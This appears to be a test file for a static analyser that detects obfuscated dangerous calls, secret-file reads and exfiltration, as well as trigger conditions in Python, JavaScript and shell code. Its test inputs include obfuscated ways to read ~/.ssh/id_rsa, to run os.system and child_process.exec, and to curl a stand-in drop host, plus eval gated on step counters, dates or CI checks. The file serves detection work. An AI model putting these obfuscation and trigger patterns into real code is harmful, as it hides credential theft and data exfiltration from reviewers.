import { describe, expect, it } from 'vitest';
import type { Language } from '../../../src/model/program.ts';

import { detailOf } from '../../../src/static/evidence/from-calls.ts';

import { guardOfPlace, mainScope, scopesOf } from '../../../src/static/facts/scopes/spread-scopes.ts';
import { flowsOf } from '../../../src/static/flow/flows.ts';
import { factsOf } from '../facts-of.ts';

async function analyse(code: string, language: Language = 'python', path = 'a') {
  const facts = await factsOf(code, language, path);
  return {
    facts,
    /** Name and detail of every call that a model knows. */
    known: facts.calls.filter((call) => call.api !== null).map((call) => `${call.name} ${detailOf(call)}`),
    flows: flowsOf(facts.graph).map((flow) => `${flow.from} > ${flow.to}`),
    placeOf: (name: string) => {
      const call = facts.calls.find((candidate) => candidate.name === name);
      if (call === undefined) throw new Error(`no call of ${name}`);
      return { scope: mainScope(scopesOf(call)), guard: guardOfPlace(call)?.kind ?? null };
    },
  };
}

describe('names', () => {
  it.each([
    ['an alias', 'import os as o\no.system("id")'],
    ['an imported name', 'from os import system as s\ns("id")'],
    ['an assignment', 'import os\nx = os.system\nx("id")'],
    ['getattr with a text in pieces', 'import os\ngetattr(os, "sys" + "tem")("id")'],
    ['__import__', '__import__("os").system("id")'],
    ['importlib', 'import importlib\nimportlib.import_module("os").system("id")'],
    ['a star import', 'from os import *\nsystem("id")'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("id")'],
    ['the table of a module', 'import os\nos.__dict__["system"]("id")'],
    [
      'an attribute of the object',
      'import os\nclass A:\n  def __init__(self):\n    self.run = os.system\n  def go(self):\n    self.run("id")',
    ],
  ])('are resolved through %s', async (_what, code) => {
    expect((await analyse(code)).known).toContain('os.system id');
  });

  it.each([
    ['builtins', 'import builtins\nbuiltins.exec("x")'],
    ['globals()', 'globals()["exec"]("x")'],
  ])('of built-in functions are resolved through %s', async (_what, code) => {
    expect((await analyse(code)).facts.calls.map((call) => call.name)).toContain('exec');
  });

  it.each([
    ['require', 'require("child_process").exec("id")'],
    ['destructuring', 'const { exec: run } = require("node:child_process"); run("id")'],
    ['an import', 'import { exec } from "child_process"; exec("id")'],
    ['a text in brackets', 'const c = require("child_process"); c["ex" + "ec"]("id")'],
    ['call', 'const c = require("child_process"); c.exec.call(null, "id")'],
  ])('are resolved in JavaScript through %s', async (_what, code) => {
    expect((await analyse(code, 'javascript')).known).toContain('child_process.exec id');
  });

  it('keep a relative import from passing for a library', async () => {
    expect((await analyse('from .os import system\nsystem("id")')).known).toEqual([]);
  });
});

describe('folding', () => {
  it.each([
    ['concatenation', 'p = "/root/" + ".ssh"\nopen(p + "/id_rsa")'],
    ['percent', 'open("%s/.ssh/%s" % ("~", "id_rsa"))'],
    ['format', 'open("{}/.ssh/id_rsa".format("~"))'],
    ['an f-string', 'd = ".ssh"\nopen(f"~/{d}/id_rsa")'],
    ['join', 'open("/".join(["~", ".ssh", "id_rsa"]))'],
    ['os.path.join with an unknown home', 'import os\nopen(os.path.join(home(), ".ssh", "id_rsa"))'],
    ['expanduser', 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))'],
    ['pathlib', 'from pathlib import Path\nopen(Path.home() / ".ssh" / "id_rsa")'],
    ['reversing', 'open("asr_di/hss./~"[::-1])'],
    ['chr', 'open("~/.ssh/" + "".join(chr(c ^ 1) for c in [104, 101, 94, 115, 114, 96]))'],
    ['base64', 'import base64\nopen(base64.b64decode("fi8uc3NoL2lkX3JzYQ==").decode())'],
    ['a decoder of its own', 'def d(s):\n  return s[::-1]\nopen(d("asr_di/hss./~"))'],
  ])('knows a path put together by %s', async (_what, code) => {
    const { facts } = await analyse(code);
    const call = facts.calls.find((candidate) => candidate.name === 'open');
    expect(call?.api?.capabilities).toEqual(['secret.read']);
  });

  it('knows a host although the rest of the address is unknown', async () => {
    expect((await analyse('import requests\nrequests.post(f"https://h.drop.example/{x}")')).known).toEqual([
      'requests.post h.drop.example',
    ]);
  });

  it('marks what came out of a decoder', async () => {
    const { facts } = await analyse('import base64\nx = base64.b64decode("aW1wb3J0IG9z").decode()');
    expect(facts.strings.filter((fact) => fact.origin === 'decoded').map((fact) => fact.text)).toContain(
      'import os',
    );
  });
});

describe('code in texts', () => {
  it.each([
    ['os.system', 'import os\nos.system("curl https://a.drop.example")', 'python'],
    ['a list of words', 'import subprocess\nsubprocess.run(["curl", "https://a.drop.example"])', 'python'],
    ['exec of Python', `exec("import os; os.system('curl https://a.drop.example')")`, 'python'],
    ['sh -c', 'sh -c "curl https://a.drop.example"', 'shell'],
    ['python -c', `python3 -c "import os; os.system('curl https://a.drop.example')"`, 'shell'],
    ['eval', 'eval "curl https://a.drop.example"', 'shell'],
    ['sudo', 'sudo -u root env A=1 curl https://a.drop.example', 'shell'],
    ['node -e', `node -e "require('child_process').exec('curl https://a.drop.example')"`, 'shell'],
    ['exec of JavaScript', 'require("child_process").exec("curl https://a.drop.example")', 'javascript'],
  ] as const)('is followed through %s', async (_what, code, language) => {
    expect((await analyse(code, language)).known).toContain('curl a.drop.example');
  });
});

describe('scopes', () => {
  it('tell the life of an environment, and spread to what it calls', async () => {
    const { placeOf } = await analyse(`
import gymnasium as gym, os, requests
def helper():
    os.system("id")
class E(gym.Env):
    def step(self, action):
        helper()
    def reset(self, seed=None):
        open("x")
requests.post("https://a.drop.example")
def unused():
    eval("1")
`);
    expect(placeOf('os.system').scope).toBe('env.step');
    expect(placeOf('open').scope).toBe('env.reset');
    expect(placeOf('requests.post').scope).toBe('import-time');
    expect(placeOf('eval').scope).toBe('function');
  });

  it('know a class with step and reset as an environment without any base', async () => {
    const { facts } = await analyse('class E:\n  def step(self, a): pass\n  def reset(self): pass');
    expect(facts.classes[0]?.isEnvironment).toBe(true);
  });

  it('know tool handlers, scripts and install hooks', async () => {
    const tool = await analyse('@mcp.tool()\ndef f(x):\n  eval(x)');
    expect(tool.placeOf('eval').scope).toBe('tool-handler');
    expect(tool.flows).toContain('model-output > code');
    const script = await analyse('if __name__ == "__main__":\n  eval("1")');
    expect(script.placeOf('eval').scope).toBe('cli-entry');
    expect((await analyse('eval("1")', 'python', 'setup.py')).placeOf('eval').scope).toBe('install-hook');
    const command = await analyse(
      'from setuptools.command.install import install\nclass C(install):\n  def run(self):\n    eval("1")',
      'python',
      'setup.py',
    );
    expect(command.placeOf('eval').scope).toBe('install-hook');
    const registered = await analyse('server.tool("x", (a) => { eval(a); })', 'javascript');
    expect(registered.placeOf('eval').scope).toBe('tool-handler');
  });

  it('label the action that an agent takes', async () => {
    const { flows } = await analyse(
      'import gymnasium\nclass E(gymnasium.Env):\n  def step(self, action):\n    eval(action)',
    );
    expect(flows).toContain('action > code');
  });
});

describe('guards', () => {
  it.each([
    ['counter', 'if self.steps == 500:\n  eval("1")'],
    ['date', 'import datetime\nif datetime.date.today().year > 2030:\n  eval("1")'],
    ['ci', 'import os\nif not os.environ.get("CI"):\n  eval("1")'],
    ['host', 'import socket\nif socket.gethostname() == "x":\n  eval("1")'],
  ])('of kind %s are seen', async (kind, code) => {
    expect((await analyse(code)).placeOf('eval').guard).toBe(kind);
  });

  it('are seen when the function is left early', async () => {
    const code = 'def f():\n  if self.steps < 500:\n    return\n  eval("1")\nf()';
    expect(
      (await analyse(code.replace('< 500', '!= 1 and self.step_count >= 500'))).placeOf('eval').guard,
    ).toBe('counter');
  });

  it('are passed to a function that is only called under one', async () => {
    const { placeOf } = await analyse('import os\ndef f():\n  eval("1")\nif os.environ.get("CI"):\n  f()');
    expect(placeOf('eval').guard).toBe('ci');
  });

  it('are not made of ordinary conditions', async () => {
    expect((await analyse('if x > 1:\n  eval("1")')).placeOf('eval').guard).toBeNull();
    expect((await analyse('if self.steps >= self.max_steps:\n  eval("1")')).placeOf('eval').guard).toBeNull();
  });
});

describe('hostile input', () => {
  it('is walked without running out of stack', async () => {
    const deep = `${'['.repeat(3_000)}1${']'.repeat(3_000)}`;
    const { facts } = await analyse(`x = ${deep}\neval("1")`);
    expect(facts.calls.map((call) => call.name)).toContain('eval');
  });

  it('is bounded when texts of code hold texts of code', async () => {
    const nested = Array.from({ length: 12 }).reduce<string>(
      (code) => `eval(${JSON.stringify(code)})`,
      'eval("1")',
    );
    const { facts } = await analyse(nested);
    expect(facts.calls.length).toBeLessThan(10);
  });
});
